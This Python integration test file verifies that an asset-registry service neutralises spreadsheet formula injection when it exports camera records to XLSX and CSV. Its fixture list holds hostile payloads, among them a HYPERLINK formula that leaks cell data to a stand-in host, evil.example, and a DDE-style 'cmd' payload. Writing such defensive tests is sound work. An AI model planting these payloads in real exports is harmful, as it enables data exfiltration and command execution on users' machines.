"""Formula injection: text that spreadsheets read as a formula leaves every export as plain text."""

from __future__ import annotations

import csv
import io

import openpyxl

from assetsvc.registry.importer import import_sheet
from assetsvc.registry.tables import Camera
from tests.integration import world
from tests.integration.conftest import ADMIN, bearer

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A5,"x")'
NAMES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "'=already quoted", "正常名称"]


async def _create_hostile_cameras(client, people) -> None:
    for n, name in enumerate(NAMES):
        body = world.camera_body(f"450204000413260012{n:02d}", people.a_id, name=name,
                                 custom={"@备注": "=1+1"})
        response = await client.post("/api/v1/cameras/", json=body, headers=bearer(people.admin))
        assert response.status_code == 201, response.text


async def _stored() -> list[dict]:
    return await Camera.select(Camera.gb_id, Camera.name, Camera.custom).order_by(
        Camera.gb_id).output(load_json=True).run()


async def test_xlsx_export_writes_formula_like_text_as_string_cells(client, people):
    await _create_hostile_cameras(client, people)
    response = await client.get("/api/v1/export?format=xlsx", headers=bearer(people.admin))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["一机一档"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert set(NAMES) <= texts and "=1+1" in texts and "@备注" in texts


async def test_csv_export_puts_an_apostrophe_before_formula_like_text(client, people):
    await _create_hostile_cameras(client, people)
    response = await client.get("/api/v1/export?format=csv", headers=bearer(people.admin))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][-1] == "'@备注"
    names = {r[1] for r in rows[1:]}
    assert names == {"'" + n for n in NAMES if n != "正常名称"} | {"正常名称"}
    assert {r[-1] for r in rows[1:]} == {"'=1+1"}


async def test_hostile_text_round_trips_through_both_exports(client, people):
    await _create_hostile_cameras(client, people)
    before = await _stored()
    assert before[0]["custom"] == {"@备注": "=1+1"}
    for fmt in ("xlsx", "csv"):
        content = (await client.get(f"/api/v1/export?format={fmt}", headers=bearer(people.admin))).content
        await Camera.delete(force=True).run()
        report = await import_sheet(content, f"export.{fmt}", ADMIN)
        assert (report.rejected, report.created) == (0, len(NAMES)), fmt
        assert await _stored() == before, fmt
